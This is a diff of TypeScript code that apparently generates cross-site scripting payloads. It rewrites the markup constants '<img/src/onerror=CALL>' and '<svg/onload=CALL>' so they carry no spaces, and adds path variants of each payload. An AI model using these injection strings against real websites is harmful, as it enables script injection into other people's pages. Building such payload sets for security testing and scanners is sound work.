@@ -29,15 +29,15 @@ export function pressing(word: string): string {
   })()`;
 }
 
-/** Sends no request: an empty `src` fails at once. */
-export const MARKUP = '<img src onerror=CALL>';
-/** The same without spaces. */
-const UNSPACED_MARKUP = '<svg/onload=CALL>';
+/** Sends no request: an empty `src` fails at once. Has no spaces, where some targets cut values. */
+export const MARKUP = '<img/src/onerror=CALL>';
+/** A shorter one for paths, with fewer slashes. */
+const PATH_MARKUP = '<svg/onload=CALL>';
 
 /** Returns the payloads with a further one for each that contains markup. */
 export const withPathPayloads = (payloads: readonly Payload[]): Payload[] =>
   payloads.flatMap((payload) => {
-    const text = payload.text.replace(MARKUP, UNSPACED_MARKUP);
+    const text = payload.text.replace(MARKUP, PATH_MARKUP);
     return text === payload.text ? [payload] : [payload, { ...payload, text, isPath: true }];
   });
 
